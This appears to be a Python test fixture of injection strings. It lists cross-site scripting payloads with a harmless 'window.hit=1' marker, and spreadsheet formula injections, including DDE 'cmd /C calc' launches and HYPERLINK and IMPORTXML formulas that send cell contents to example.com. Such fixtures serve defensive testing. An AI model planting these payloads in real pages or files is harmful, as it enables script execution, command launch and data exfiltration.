"""Texts that try to become something else than text: markup, script, a formula, an escape sequence."""

HTML = [
    "<script>window.hit = 1</script>",
    "</script><script>window.hit = 1</script>",
    "</SCRIPT ><img src=x onerror=window.hit=1>",
    "<!--<script>",
    "--><svg onload=window.hit=1>",
    "<img src=x onerror='window.hit=1'>",
    '"><iframe srcdoc="<script>parent.hit=1</script>">',
    "' autofocus onfocus=window.hit=1 x='",
    "<a href=javascript:window.hit=1>here</a>",
    "<style>*{display:none}</style>",
    "<base href=https://example.com/><link rel=stylesheet href=//example.com/x.css>",
    "<meta http-equiv=refresh content=0;url=https://example.com>",
    "{{ data }} {{constructor.constructor('window.hit=1')()}} ${window.hit=1} `+window.hit+`",
    "\\u003cscript\\u003ewindow.hit=1\\u003c/script\\u003e &lt;script&gt; &#60;script&#62;",
    "a\u2028window.hit=1\u2029b",
    "]]><![CDATA[<script>window.hit=1</script>",
    "\ufeff\u202e<script>\u2066window.hit=1\u2069</script>\u200b\u00ad",
    "\u0000\u0001\u001b[31mred\u0007\u009b",
    "<math><mtext></mtext><script>window.hit=1</script>",
    "\U000e0041\U000e0042 \U0001f468\u200d\U0001f469\u200d\U0001f467 \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
]

FORMULAS = [
    '=HYPERLINK("https://example.com?x="&A1,"here")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
    '";=1+1;"',
    ' =IMPORTXML(CONCAT("https://example.com/?",A1),"//a")',
    "%0A-3+3+cmd|' /C calc'!D2",
    "\uff1d1+1",
]
